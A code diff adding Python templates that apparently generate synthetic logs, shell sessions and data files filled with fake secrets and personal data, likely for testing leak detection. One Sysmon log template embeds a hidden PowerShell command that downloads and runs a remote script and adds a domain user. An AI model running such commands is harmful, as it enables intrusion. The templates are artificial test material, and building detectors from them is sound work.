+        rnd(c.r, "bcdfghjklmnpqrstvwxz2456789", 5), node=c.pick("aks-nodepool1-", "ip-", "gke-pool-") + rnd(c.r, string.digits, 8), nip=c.ip4("p10"),
+        ts=c.ts(), pip=c.ip4("p10"), pv6=c.ip6("ula"), dom=c.pick(*B30_ORGDOM), ver=c.la(3), dbh=c.ip4("p10"), pw=c.pw(safe=True),
+        ak=c.v("ANTHROPIC_KEY"), gk=c.v("GOOGLE_API_KEY"))
+
+
+def b30_t_printenv(c):
+    s1, s2 = c.sec(), c.sec()
+    rows = [("HOME", "/home/" + c.first.lower()), ("HOSTNAME", c.pick("build-7f9c", "dev-vm", "ws-" + rnd(c.r, HEX, 6))),
+            ("SSH_CLIENT", b30_fill("«ip» «p» 22", ip=c.ip4("pub"), p=c.r.randint(40000, 65000))), ("AWS_ACCESS_KEY_ID", c.v("AWS_ACCESS_KEY")),
+            ("AWS_SECRET_ACCESS_KEY", c.gen("awssec")), (b30_envname(s1), s1), ("GIT_AUTHOR_EMAIL", c.myem()), ("LANG", c.loc + ".UTF-8"),
+            ("TERM", "xterm-256color"), ("BUILD_ID", c.la(21)), ("GH_TOKEN", c.v("GITHUB_TOKEN")), (b30_envname(s2) + ("_ALT" if s2.typ == s1.typ else ""), s2)]
+    rows.sort(key=lambda x: x[0])
+    out = ["$ printenv | sort   # " + c.pick("debugging the 403", "why is the job failing?", "warum schlägt der Build fehl", "pourquoi ça plante") + "\n"]
+    for k, v in rows:
+        out.append(k + "=")
+        out += v if isinstance(v, list) else [v]
+        out.append("\n")
+    return out
+
+
+def b30_t_awsconfigure(c):
+    return b30_fill("""PS C:\\Users\\«u»> aws configure --profile «prof»
+AWS Access Key ID [None]: «ak»
+AWS Secret Access Key [None]: «sk»
+Default region name [None]: eu-west-1
+Default output format [None]: json
+PS C:\\Users\\«u»> aws sts get-caller-identity --profile «prof»
+{
+    "UserId": "AIDA«uid»",
+    "Account": "«acct»",
+    "Arn": "arn:aws:iam::«acct»:user/«u»"
+}
+""", u=b30_ascii(c.first), prof=c.pick("prod", "billing", "sandbox"), ak=c.v("AWS_ACCESS_KEY"), sk=c.gen("awssec"),
+        uid=rnd(c.r, string.ascii_uppercase + "234567", 17), acct=rnd(c.r, string.digits, 12))
+
+
+def b30_t_cmdkey(c):
+    return b30_fill("""C:\\> cmdkey /add:«srv» /user:CORP\\«u» /pass:«pw»
+CMDKEY: Credential added successfully.
+
+C:\\> net use Z: \\\\«ip»\\scans «pw2» /user:«u» /persistent:yes
+The command completed successfully.
+
+C:\\> net use
+New connections will be remembered.
+Status       Local     Remote                    Network
+-------------------------------------------------------------------------------
+OK           Z:        \\\\«ip»\\scans            Microsoft Windows Network
+""", srv=c.pick("fileserver01", "nas.corp.lan", "printsrv"), u=b30_ascii(c.first)[:8], pw=c.pw(safe=True), ip=c.ip4("p10"), pw2=c.pw(safe=True))
+
+
+def b30_t_sqlplus(c):
+    return b30_fill("""[oracle@«h» ~]$ sqlplus «u»/«pw»@//«ip»:1521/ORCLPDB1
+
+SQL*Plus: Release 19.0.0.0.0 - Production on «when»
+Connected to:
+Oracle Database 19c Enterprise Edition Release 19.0.0.0.0 - Production
+
+SQL> SELECT cust_id, email, phone_no FROM customers WHERE cust_id = «cid»;
+
+   CUST_ID EMAIL                          PHONE_NO
+---------- ------------------------------ --------------------
+    «cid» «em» «ph»
+""", h=c.pick("dbhost01", "ora-prd-2"), u=c.pick("system", "app_owner", "report"), pw=c.pw(safe=True), ip=c.ip4("p10"),
+        when=c.pick("Wed Dec 30 08:12:01 2026", "Tue Dec 29 17:45:33 2026"), cid=c.r.randint(100000, 999999), em=c.em(), ph=c.ph())
+
+
+def b30_t_ipmi(c):
+    return b30_fill("""$ ipmitool -I lanplus -H «ip» -U «u» -P «pw» chassis power status
+Chassis Power is on
+$ ipmitool -I lanplus -H «ip» -U «u» -P «pw» lan print 1
+IP Address Source       : Static Address
+IP Address              : «ip»
+Subnet Mask             : 255.255.255.0
+MAC Address             : «mac»
+Default Gateway IP      : «gw»
+Firmware Revision       : «fw»
+""", ip=c.ip4("p10"), u=c.pick("ADMIN", "root", "admin"), pw=c.pw(safe=True), mac=c.la(17), gw=c.ip4("p10"), fw=c.la(4))
+
+
+def b30_t_hcloud(c):
+    return b30_fill("""$ hcloud context create «ctx»
+Token: «tok»
+Context «ctx» created and activated
+$ hcloud server list
+ID         NAME        STATUS    IPV4             IPV6                     DATACENTER
+«id1»   «n1»      running   «a»   «a6»/64   fsn1-dc14
+«id2»   «n2»      running   «b»   «b6»/64   nbg1-dc3
+$ doctl auth init --access-token «dop»
+Validating token... OK
+""", ctx=c.pick("prod", "lab", "kunde-x"), tok=c.gen("hex64"), id1=c.r.randint(10 ** 7, 10 ** 8), n1=c.pick("web-1", "db-1", "mail"),
+        a=c.ip4("pub"), a6=B30L("IPV6", f"2a01:4f8:{c.r.randrange(4096, 65536):x}:{c.r.randrange(4096, 65536):x}::"),
+        id2=c.r.randint(10 ** 7, 10 ** 8), n2=c.pick("runner", "vpn", "backup"), b=c.ip4("pub"),
+        b6=B30L("IPV6", f"2a01:4f9:{c.r.randrange(4096, 65536):x}:{c.r.randrange(4096, 65536):x}::"), dop=c.gen("dop"))
+
+
+def b30_t_gitclone(c):
+    gh = c.v("GITHUB_TOKEN")
+    return b30_fill("""$ git clone https://«u»:«gh»@github.com/«org»/«repo».git
+Cloning into '«repo»'...
+remote: Support for password authentication was removed on August 13, 2021.
+fatal: Authentication failed for 'https://github.com/«org»/«repo».git/'
+$ git remote -v
+origin  https://x-access-token:«gh»@github.com/«org»/«repo».git (fetch)
+origin  https://x-access-token:«gh»@github.com/«org»/«repo».git (push)
+""", u=b30_ascii(c.first), gh=gh, org=c.pick("kestrel-dev", "tessera-app", "brightmoor"), repo=c.pick("infra", "mobile", "billing-service"))
+
+
+def b30_t_pip(c):
+    return b30_fill("""$ pip install -r requirements.txt --index-url https://«u»:«pw»@pypi.«dom»/simple
+Looking in indexes: https://«u»:****@pypi.«dom»/simple
+Collecting internal-sdk==«ver» (from -r requirements.txt (line 4))
+  Downloading https://pypi.«dom»/packages/internal_sdk-«ver»-py3-none-any.whl (48 kB)
+ERROR: HTTP error 401 while getting https://pypi.«dom»/packages/ml_utils-«ver2».tar.gz
+$ export UV_INDEX_URL=https://__token__:«tok»@pypi.«dom»/simple
+""", u=b30_ascii(c.first), pw=c.pw(safe=True), dom=c.pick(*B30_ORGDOM), ver=c.la(3)[1:], ver2=c.la(3)[1:], tok=c.gen(c.pick("pypi", "glpat", "hex40")))
+
+
+def b30_t_backupsh(c):
+    return b30_fill("""#!/bin/bash
+# nightly backup -- «note»
+set -euo pipefail
+export AWS_ACCESS_KEY_ID=«ak»
+export AWS_SECRET_ACCESS_KEY=«sk»
+STAMP=$(date +%F)
+mysqldump -h «ip» -u root -p'«pw»' --all-databases | gzip > /backup/mysql-$STAMP.sql.gz
+mongodump --uri="mongodb://backup:«mpw»@«ip2»:27017/?authSource=admin" --archive=/backup/mongo-$STAMP.gz
+aws s3 cp /backup/ s3://«bucket»/$(hostname)/ --recursive
+curl -fsS -m 10 https://hc-ping.com/«uuid» > /dev/null
+echo "done" | mail -s "backup ok" «em»
+""", note=c.pick("written by " + c.first, "von " + c.first + " angepasst", "ne pas toucher"), ak=c.v("AWS_ACCESS_KEY"), sk=c.gen("awssec"), ip=c.ip4("p10"),
+        pw=c.pw(safe=True), mpw=c.pw(safe=True), ip2=c.ip4("p10"), bucket=c.pick("acme-backups", "nightly-dumps-eu", "srv-archive"), uuid=c.la(9), em=c.em())
+
+
+def b30_t_gpg(c):
+    return b30_fill("""$ gpg --list-secret-keys
+sec   ed25519 2024-03-11 [SC] [expires: 2027-03-11]
+      «fp»
+uid           [ultimate] «name» <«em»>
+ssb   cv25519 2024-03-11 [E]
+
+$ gpg --export-secret-keys --armor «em»
+«key»
+""", fp=rnd(c.r, "0123456789ABCDEF", 40), name=c.name, em=c.myem(), key=b30_pgpkey(c.r))
+
+
+def b30_t_sshpaste(c):
+    return b30_fill("""«greet» «who», here's the deploy key for the «srv» box, login as deploy@«ip» (port «port»):
+
+«key»
+
+ssh -i ~/.ssh/deploy_«srv» -p «port» deploy@«ip»
+fingerprint should be SHA256:«fp»
+""", greet=c.pick("Hey", "Hi", "Yo"), who=c.f.first_name(), srv=c.pick("staging", "build", "kiosk", "pos"), ip=c.ip4(c.pick("pub", "p10")),
+        port=c.pick(22, 2222, 22022), key=c.key("armour", c.pick("OPENSSH PRIVATE KEY", "OPENSSH PRIVATE KEY", "RSA PRIVATE KEY")),
+        fp=rnd(c.r, AN + "+/", 43))
+
+
+# ---------- blind30 text documents: logs ----------
+
+def b30_t_apache(c):
+    lines = []
+    for _ in range(c.r.randint(3, 5)):
+        ip = c.ip4("pub") if c.r.random() < 0.75 else c.ip6("glob")
+        k = c.r.randrange(4)
+        if k == 0:
+            path = b30_fill("/api/geo?address=«c»&key=«k»", c=c.city(), k=c.v("GOOGLE_API_KEY"))
+        elif k == 1:
+            path = b30_fill("/newsletter/confirm?email=«e»&t=«t»", e=c.em(), t=rnd(c.r, HEX, 16))
+        elif k == 2:
+            path = b30_fill("/hooks/deploy?token=«t»", t=c.gen(c.pick("hex40", "hex32")))
+        else:
+            path = ["/static/app." + rnd(c.r, HEX, 8) + ".js"]
+        lines += [ip, f" - - [{c.ts('apache', 2)}] \"GET "] + path + [f" HTTP/1.1\" {c.pick(200, 200, 302, 404)} {c.r.randint(200, 90000)} \"-\" \"{c.pick('Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'curl/8.5.0', 'okhttp/4.12.0')}\"\n"]
+    return lines
+
+
+def b30_t_squid(c):
+    out = []
+    for _ in range(c.r.randint(3, 5)):
+        t = f"{B30_EPOCH - c.r.randint(0, 86400)}.{c.r.randint(100, 999)}"
+        ip = c.ip4("p10")
+        k = c.r.randrange(3)
+        if k == 0:
+            url = b30_fill("https://api.telegram.org/bot«t»/sendMessage", t=c.gen("telegram"))
+        elif k == 1:
+            url = b30_fill("https://maps.googleapis.com/maps/api/js?key=«k»&libraries=places", k=c.v("GOOGLE_API_KEY"))
+        else:
+            url = ["https://" + c.pick("cdn.jsdelivr.net/npm/chart.js", "update.code.visualstudio.com/api", "www.bbc.co.uk/news") ]
+        out += [f"{t} {c.r.randint(20, 900):>6} ", ip, f" TCP_TUNNEL/200 {c.r.randint(500, 90000)} GET "] + url + [" - HIER_DIRECT/", c.ip4("pub"), " -\n"]
+    return out
+
+
+def b30_t_pglog(c):
+    u = c.pick("reporting", "app_rw", "metabase", "etl")
+    return b30_fill("""«t1» UTC [«pid»] LOG:  connection authorized: user=«u» database=«db» host=«ip» port=«port»
+«t1» UTC [«pid»] LOG:  statement: ALTER ROLE «u» WITH LOGIN PASSWORD '«pw»' VALID UNTIL '2027-06-30';
+«t2» UTC [«pid2»] FATAL:  password authentication failed for user "«u2»"
+«t2» UTC [«pid2»] DETAIL:  Connection matched pg_hba.conf line 98: "host all all «net» scram-sha-256"
+«t3» UTC [«pid3»] LOG:  statement: UPDATE customers SET email = '«em»', phone = '«ph»' WHERE id = «cid»;
+""", t1=c.ts("sql", 1), pid=c.r.randint(1000, 99999), u=u, db=c.pick("shop", "crm", "analytics"), ip=c.ip4("p10"), port=c.r.randint(40000, 65000),
+        pw=c.pw(safe=True), t2=c.ts("sql", 1), pid2=c.r.randint(1000, 99999), u2=c.pick("postgres", "admin", "root"), net="10.0.0.0/8",
+        t3=c.ts("sql", 1), pid3=c.r.randint(1000, 99999), em=c.em(), ph=c.ph(), cid=c.r.randint(1000, 999999))
+
+
+def b30_t_mysqlgen(c):
+    card = c.card("plain")
+    return b30_fill("""«t» «id» Connect	shop@«ip» on shop using TCP/IP
+«t» «id» Query	SET NAMES utf8mb4
+«t» «id» Query	INSERT INTO customers (first_name, last_name, email, phone, birth_date) VALUES ('«fn»', '«ln»', '«em»', '«ph»', '«dob»')
+«t» «id» Query	INSERT INTO payments (order_ref, card_number, card_exp, amount) VALUES ('«ord»', '«card»', '«exp»', «amt»)
+«t» «id» Quit
+""", t=c.ts("iso", 1), id=c.r.randint(10, 9999), ip=c.ip4("p172"), fn=c.first.replace("'", ""), ln=c.last.replace("'", ""), em=c.myem(), ph=c.ph(),
+        dob=c.dob("iso"), ord=c.la(0), card=card, exp=b30_exp(c.r), amt=f"{c.r.randint(5, 900)}.{c.r.randint(0, 99):02d}")
+
+
+def b30_t_kaudit(c):
+    return b30_fill("""{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"«uuid»","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/«ns»/secrets","verb":"create","user":{"username":"«em»","groups":["system:authenticated"]},"sourceIPs":["«ip»","«v6»"],"objectRef":{"resource":"secrets","namespace":"«ns»","name":"api-keys"},"requestObject":{"kind":"Secret","stringData":{"OPENAI_API_KEY":"«ok»","SLACK_BOT_TOKEN":"«sl»","DB_PASSWORD":"«pw»"}},"responseStatus":{"code":201},"requestReceivedTimestamp":"«ts»"}
+""", uuid=c.la(9), ns=c.pick("agents", "payments", "default"), em=c.em(), ip=c.ip4("pub"), v6=c.ip6("glob"), ok=c.v("OPENAI_KEY"), sl=c.v("SLACK_TOKEN"), pw=c.pw(safe=True), ts=c.ts())
+
+
+def b30_t_laravel(c):
+    card = c.card()
+    return b30_fill("""[«t»] production.ERROR: Payment gateway declined {"exception":"[object] (App\\\\Exceptions\\\\GatewayException(code: 402)"} 
+[stacktrace]
+#0 /var/www/app/Http/Controllers/CheckoutController.php(88): App\\Services\\Gateway->charge(Array)
+Request payload: array (
+  'email' => '«em»',
+  'password' => '«pw»',
+  'card_number' => '«card»',
+  'cvc' => '«cvc»',
+  'phone' => '«ph»',
+  'order' => '«ord»',
+)
+[«t»] production.DEBUG: services.stripe.secret = «sk»
+""", t=c.ts("sql", 2), em=c.em(), pw=c.pw(safe=True), card=card, cvc=c.cvc(card), ph=c.ph(), ord=c.la(0), sk=c.v("STRIPE_KEY"))
+
+
+def b30_t_wrangler(c):
+    return b30_fill("""$ npx wrangler tail «w» --format pretty
+Successfully created tail, expires at «ts»
+Connected to «w», waiting for logs...
+POST https://«w».«sub».workers.dev/chat - Ok @ «t2»
+  (log) headers: {"authorization":"Bearer «jwt»","cf-connecting-ip":"«ip»","content-type":"application/json"}
+  (log) forwarding with key «ak»
+GET https://«w».«sub».workers.dev/health - Ok @ «t3»
+  (log) cf-connecting-ip «v6»
+""", w=c.pick("edge-proxy", "chat-relay", "img-resize"), ts=c.ts(), sub=c.pick("kestrel", "tessera", "acme"), t2=c.pick("30/12/2026, 10:14:03", "12/30/2026, 9:01:44 AM"),
+        jwt=c.v("JWT"), ip=c.ip4("pub"), ak=c.sec(["ANTHROPIC_KEY", "OPENAI_KEY", "GOOGLE_API_KEY"]), t3=c.pick("30/12/2026, 10:15:10", "12/30/2026, 9:02:10 AM"),
+        v6=c.ip6("glob"))
+
+
+def b30_t_lambda(c):
+    return b30_fill("""START RequestId: «rid» Version: $LATEST
+«t»	«rid»	INFO	event: {"body":"{\\"email\\":\\"«em»\\",\\"phone\\":\\"«ph»\\"}","requestContext":{"identity":{"sourceIp":"«ip»"}}}
+«t»	«rid»	INFO	using key «sk» for charge «ord»
+«t»	«rid»	ERROR	Invoke Error {"errorType":"StripeAuthenticationError","message":"Invalid API Key provided"}
+END RequestId: «rid»
+REPORT RequestId: «rid»	Duration: «d» ms	Billed Duration: «bd» ms	Memory Size: 512 MB	Max Memory Used: «mm» MB
+""", rid=c.la(9), t=c.ts(), em=c.em(), ph=c.ph(), ip=c.ip4("pub"), sk=c.v("STRIPE_KEY"), ord=c.la(0), d=f"{c.r.randint(10, 3000)}.{c.r.randint(10, 99)}",
+        bd=c.r.randint(10, 3000), mm=c.r.randint(60, 500))
+
+
+def b30_t_sysmon(c):
+    u = c.pick("svc_backup", "helpdesk2", "tmpadmin")
+    return b30_fill("""Log Name:      Microsoft-Windows-Sysmon/Operational
+Event ID:      1
+Task Category: Process Create (rule: ProcessCreate)
+Computer:      «host»
+Description:
+Process Create:
+UtcTime: «t»
+ProcessGuid: {«uuid»}
+Image: C:\\Windows\\System32\\net.exe
+CommandLine: net user «u» «pw» /add /domain
+CurrentDirectory: C:\\Windows\\system32\\
+User: CORP\\«adm»
+ParentCommandLine: powershell.exe -nop -w hidden -c "iwr http://«ip»/a.ps1 | iex"
+Hashes: SHA256=«h»
+""", host=c.pick("WS-", "LT-", "SRV-") + rnd(c.r, string.ascii_uppercase + string.digits, 6), t=c.ts("sql", 1), uuid=c.la(9), u=u, pw=c.pw(safe=True),
+        adm=b30_ascii(c.first)[:6] + "_adm", ip=c.ip4("pub"), h=rnd(c.r, "0123456789ABCDEF", 64))
+
+
+def b30_t_radius(c):
+    return b30_fill("""(«n») Received Access-Request Id «id» from «nas»:«sport» to «srv»:1812 length «len»
+(«n»)   User-Name = "«user»"
+(«n»)   User-Password = "«pw»"
+(«n»)   NAS-IP-Address = «nas»
+(«n»)   Called-Station-Id = "«mac1»:«ssid»"
+(«n»)   Calling-Station-Id = "«mac2»"
+(«n»)   Framed-IPv6-Address = «v6»
+(«n») # Executing section authorize from file /etc/freeradius/3.0/sites-enabled/default
+(«n»)     [pap] = «res»
+(«n») Sent Access-«ans» Id «id» from «srv»:1812 to «nas»:«sport» length 20
+""", n=c.r.randint(0, 400), id=c.r.randint(0, 255), nas=c.ip4("p10"), sport=c.r.randint(30000, 60000), srv=c.ip4("p10"), len=c.r.randint(150, 300),
+        user=c.pick(c.em(), B30L("EMAIL", b30_ascii(c.first) + "@" + c.pick(*B30_ORGDOM))), pw=c.pw(safe=True), mac1=c.la(17).upper().replace(":", "-"),
+        ssid=c.pick("CORP", "eduroam", "Staff"), mac2=c.la(17).upper().replace(":", "-"), v6=c.ip6("glob"), res=c.pick("ok", "reject"), ans=c.pick("Accept", "Reject"))
+
+
+def b30_t_dnsmasq(c):
+    out = []
+    for _ in range(c.r.randint(3, 5)):
+        pid = c.r.randint(300, 9000)
+        if c.r.random() < 0.65:
+            out += [f"{c.ts('syslog', 1)} gw dnsmasq-dhcp[{pid}]: DHCPACK(br-lan) ", c.ip4("p192"),
+                    f" {c.la(17)} {c.pick('iPhone', 'Galaxy-S23', 'LAPTOP-' + rnd(c.r, string.ascii_uppercase, 5), 'printer', 'nest-hub')}\n"]
+        else:
+            out += [f"{c.ts('syslog', 1)} gw dnsmasq-dhcp[{pid}]: DHCPREPLY(br-lan) ", c.ip6("glob"), f" 00:01:00:01:{c.la(17)} {c.pick('tv', 'nas', 'pi')}\n"]
+    return out
+
+
+def b30_t_cdr(c):
+    out = ['"accountcode","src","dst","dcontext","clid","channel","dstchannel","lastapp","lastdata","start","answer","end","duration","billsec","disposition","amaflags","uniqueid"\n']
+    for _ in range(c.r.randint(2, 4)):
+        a, b = c.ph(variants=["e164"]), c.ph(variants=["e164", "national"])
+        nm = c.person()
+        ts = c.ts("sql", 1)
+        out += ['"","'] + [a] + ['","'] + [b] + [f'","from-trunk","""{nm}"" <'] + [a] + [f'>","PJSIP/trunk-{rnd(c.r, HEX, 8)}","PJSIP/{c.r.randint(100, 250)}-{rnd(c.r, HEX, 8)}","Dial","PJSIP/{c.r.randint(100, 250)},30","{ts}","{ts}","{ts}",{(dur := c.r.randint(5, 900))},{max(0, dur - c.r.randint(3, 20))},"ANSWERED","DOCUMENTATION","{B30_EPOCH - c.r.randint(0, 86400)}.{c.r.randint(1, 300)}"\n']
+    return out
+
+
+def b30_t_dovecot(c):
+    return b30_fill("""«t1» mail dovecot: auth: passwd-file(«e1»,«ip1»): Password mismatch
+«t1» mail dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<«e1»>, method=PLAIN, rip=«ip1», lip=«lip», TLS, session=<«sess»>
+«t2» mail dovecot: imap-login: Login: user=<«e2»>, method=PLAIN, rip=«v6», lip=«lip6», mpid=«mpid», TLS, session=<«sess2»>
+«t2» mail dovecot: auth: Debug: passwd-file(«e3»): Password mismatch (given password: «pw»)
+""", t1=c.ts("syslog", 1), e1=c.em(), ip1=c.ip4("pub"), lip=c.ip4("p10"), sess=rnd(c.r, AN + "+/", 16), t2=c.ts("syslog", 1), e2=c.em(), v6=c.ip6("glob"),
+        lip6=c.ip6("ula"), mpid=c.r.randint(1000, 99999), sess2=rnd(c.r, AN + "+/", 16), e3=c.em(), pw=c.pw(safe=True))
+
+
+def b30_t_jenkins(c):
+    gh = c.v("GITHUB_TOKEN")
+    return b30_fill("""Started by user «name»
+Running in Durability level: MAX_SURVIVABILITY
+[Pipeline] withCredentials
+Masking supported pattern matches of $REGISTRY_PASSWORD
+[Pipeline] sh
++ docker login -u ci -p **** registry.«dom»
+Login Succeeded
++ echo token=«gh»
+token=«gh»
++ curl -s -H 'Authorization: token «gh»' https://api.github.com/repos/«org»/deploy/dispatches
++ AWS_ACCESS_KEY_ID=«ak» aws s3 sync dist/ s3://«bucket»/
++ ssh deploy@«ip» ./release.sh «ver»
+Finished: «res»
+""", name=c.name, dom=c.pick(*B30_ORGDOM), gh=gh, org=c.pick("kestrel-dev", "tessera-app"), ak=c.v("AWS_ACCESS_KEY"), bucket=c.pick("www-assets", "cdn-prod"), ip=c.ip4("p10"), ver=c.la(3), res=c.pick("SUCCESS", "FAILURE"))
+
+
+def b30_t_rails(c):
+    return b30_fill("""I, [«t»]  INFO -- : [«rid»] Started POST "/account/signup" for «ip» at «t2» +0000
+I, [«t»]  INFO -- : [«rid»] Processing by RegistrationsController#create as HTML
+I, [«t»]  INFO -- : [«rid»]   Parameters: {"authenticity_token"=>"[FILTERED]", "user"=>{"email"=>"«em»", "password"=>"[FILTERED]", "phone"=>"«ph»", "date_of_birth"=>"«dob»", "referral"=>"«la»"}}
+D, [«t»] DEBUG -- : [«rid»] Authorization: Bearer «jwt»
+W, [«t»]  WARN -- : [«rid»] Unpermitted parameter: :password_confirmation. Value: «pw»
+I, [«t»]  INFO -- : [«rid»] Completed 302 Found in «ms»ms (ActiveRecord: 12.1ms)
+""", t=c.ts("iso", 1), rid=c.la(9), ip=c.ip4("pub"), t2=c.ts("sql", 1), em=c.em(), ph=c.ph(), dob=c.dob("iso"), la=c.la(19), jwt=c.v("JWT"), pw=c.pw(safe=True), ms=c.r.randint(20, 900))
+
+
+def b30_t_axios(c):
+    return b30_fill("""AxiosError: Request failed with status code 401
+    at settle (/app/node_modules/axios/dist/node/axios.cjs:2019:12)
+  code: 'ERR_BAD_REQUEST',
+  config: {
+    method: 'post',
+    url: 'https://api.anthropic.com/v1/messages',
+    headers: Object [AxiosHeaders] {
+      'Content-Type': 'application/json',
+      'x-api-key': '«ak»',
+      'anthropic-version': '2023-06-01'
+    },
+    data: '{"model":"claude-sonnet-4-5","metadata":{"user_id":"«em»"}}'
+  },
+  response: { status: 401, statusText: 'Unauthorized' }
+""", ak=c.v("ANTHROPIC_KEY"), em=c.em())
+
+
+def b30_t_dotnet(c):
+    return b30_fill("""Unhandled exception. Microsoft.Data.SqlClient.SqlException (0x80131904): Login failed for user 'sa'.
+   at Microsoft.Data.SqlClient.SqlInternalConnection.OnError(SqlException exception, Boolean breakConnection)
+   at Billing.Worker.Program.Main(String[] args) in /src/Billing.Worker/Program.cs:line «ln»
+ClientConnectionId:«uuid»
+Error Number:18456,State:1,Class:14
+Connection string was: Server=tcp:«ip»,1433;Database=Billing;User Id=sa;Password=«pw»;TrustServerCertificate=True;
+""", ln=c.r.randint(20, 200), uuid=c.la(9), ip=c.ip4("p10"), pw=c.pw(safe=True))
+
+
+def b30_t_grpc(c):
+    return b30_fill("""I1230 «t» 1 interceptor.go:«ln»] grpc request method=/payments.v1.Refunds/Create peer=[«v6»]:«port»
+I1230 «t» 1 interceptor.go:«ln»] metadata: :authority=[payments:50051] authorization=[Bearer «jwt»] x-api-key=[«gk»] x-request-id=[«rid»]
+I1230 «t» 1 interceptor.go:«ln2»] request: refund_id:"«la»" customer_email:"«em»" amount_minor:«amt»
+""", t=c.ts("time"), ln=c.r.randint(30, 200), v6=c.ip6("glob"), port=c.r.randint(30000, 60000), jwt=c.v("JWT"), gk=c.v("GOOGLE_API_KEY"), rid=c.la(9),
+        ln2=c.r.randint(30, 200), la=c.la(19), em=c.em(), amt=c.r.randint(100, 99999))
+
+
+# ---------- blind30 text documents: data files ----------
+
+def b30_t_vcard(c):
+    out = []
+    for i in range(c.r.randint(1, 3)):
+        fn, ln = (c.first, c.last) if i == 0 else (c.f.first_name(), c.f.last_name())
+        out += b30_fill("""BEGIN:VCARD
+VERSION:3.0
+N:«ln»;«fn»;;;
+FN:«fn» «ln»
+ORG:«org»
+EMAIL;TYPE=INTERNET,HOME:«em»
+TEL;TYPE=CELL:«ph»
+TEL;TYPE=WORK,VOICE:«ph2»
+BDAY:«dob»
+ADR;TYPE=HOME:;;«st»;«city»;;;«cc»
+NOTE:«cn» «la»
+REV:«rev»
+END:VCARD
+""", ln=ln, fn=fn, org=c.f.company(), em=c.em(first=fn, last=ln), ph=c.ph(variants=["e164", "intl"]), ph2=c.ph(), dob=c.dob(c.pick("iso", "compact")),
+            st=c.street(), city=c.city(), cc=REGION[c.loc], cn={"en": "Customer no.", "de": "Kundennr.", "fr": "N° client", "es": "N.º cliente", "it": "Cod. cliente",
+                                                    "nl": "Klantnr."}[c.lang], la=c.la(c.pick(0, 19, 2)), rev=c.ts())
+    return out
+
+
+def b30_t_ics(c):
+    org = c.em()
+    pin = B30L("PASSWORD", rnd(c.r, string.digits, 6)) if c.r.random() < 0.5 else c.pw(safe=True)
+    return b30_fill("""BEGIN:VCALENDAR
+PRODID:-//Google Inc//Google Calendar 70.9054//EN
+METHOD:REQUEST
+BEGIN:VEVENT
+DTSTART:«d1»
+DTEND:«d2»
+UID:«uid»@google.com
+ORGANIZER;CN=«name»:mailto:«org»
+ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;CN=«a1»:mailto:«a1»
+ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=ACCEPTED;CN=«org»:mailto:«org»
+SUMMARY:«sum»
+DESCRIPTION:Join Zoom Meeting: https://us02web.zoom.us/j/«mid»\\nMeeting ID: «mids»\\nPasscode: «pin»\\nDial by your location: «ph»\\nOr call the host on «ph2»
+LOCATION:«loc»
+END:VEVENT
+END:VCALENDAR
+""", d1="20270105T100000Z", d2="20270105T110000Z", uid=rnd(c.r, string.ascii_lowercase + string.digits, 26), name=c.name, org=org, a1=c.em(),
+        sum=c.pick("Quarterly review", "Vertragsbesprechung", "Point mensuel", "Revisión de la póliza", "Riunione fornitori", "Kick-off project"),
+        mid=(mid := rnd(c.r, string.digits, 11)), mids=f"{mid[:3]} {mid[3:7]} {mid[7:]}", pin=pin, ph=c.ph(variants=["intl"]), ph2=c.ph(),
+        loc=c.pick("Zoom", "Room 4.12", "Salle Rhône"))
+
+
+def b30_t_mailhdr(c):
+    fr = c.myem()
+    return b30_fill("""Return-Path: <«fr»>
+Received: from mail-«n».«dom» (mail-«n».«dom» [«ip1»])
+        by mx.«dom2» (Postfix) with ESMTPS id «qid»
+        for <«to»>; «date»
+Received: from [«ip2»] (p«ph4».dip0.t-ipconnect.de [«ip3»])
+        by smtp.«dom» with ESMTPSA id «qid2»
+        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256)
+Received: from localhost ([«v6»]) by relay.«dom»; «date»
+X-Originating-IP: [«ip3»]
+DKIM-Signature: v=1; a=rsa-sha256; d=«dom»; s=s1; bh=«bh»; b=«b»
+From: «name» <«fr»>
+To: «to»
+Reply-To: «rt»
+Subject: «sub»
+Message-ID: <«mid»@«dom»>
+""", fr=fr, n=c.r.randint(1, 40), dom=fr.text.split("@")[1], ip1=c.ip4("pub"), dom2=c.pick(*B30_ORGDOM), qid=rnd(c.r, "0123456789ABCDEF", 11), to=c.em(),
+        date=c.pick("Wed, 30 Dec 2026 09:14:02 +0100", "Tue, 29 Dec 2026 18:40:55 +0000"), ip2=c.ip4("p192"), ph4=rnd(c.r, "0123456789abcdef", 8),
+        ip3=c.ip4("pub"), qid2=rnd(c.r, "0123456789ABCDEF", 11), v6=c.ip6("glob"), bh=b64blob(c.r, 32), b=b64blob(c.r, 128), name=c.name, rt=c.em(),
+        sub=c.pick("Re: Rechnung " + c.la(2), "Fwd: your order " + c.la(0), "Devis signé", "Re: acceso VPN"), mid=c.la(9))
+
+
+def b30_t_pain001(c):
+    n = c.r.randint(1, 3)
+    out = b30_fill("""<?xml version="1.0" encoding="UTF-8"?>
+<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09">
+ <CstmrCdtTrfInitn>
+  <GrpHdr><MsgId>«mid»</MsgId><CreDtTm>«ts»</CreDtTm><NbOfTxs>«n»</NbOfTxs></GrpHdr>
+  <PmtInf>
+   <PmtInfId>«pid»</PmtInfId><PmtMtd>TRF</PmtMtd>
+   <Dbtr><Nm>«org»</Nm></Dbtr>
+   <DbtrAcct><Id><IBAN>«ib»</IBAN></Id></DbtrAcct>
+   <DbtrAgt><FinInstnId><BICFI>«bic»</BICFI></FinInstnId></DbtrAgt>
+""", mid=c.la(2), ts=c.ts()[:19], n=n, pid=c.la(20), org=c.f.company().replace("&", "und"), ib=c.iban(style="plain"), bic=b30_bic(c.r, c.loc))
+    for _ in range(n):
+        out += b30_fill("""   <CdtTrfTxInf>
+    <PmtId><EndToEndId>«e2e»</EndToEndId></PmtId>
+    <Amt><InstdAmt Ccy="EUR">«amt»</InstdAmt></Amt>
+    <Cdtr><Nm>«nm»</Nm></Cdtr>
+    <CdtrAcct><Id><IBAN>«ib»</IBAN></Id></CdtrAcct>
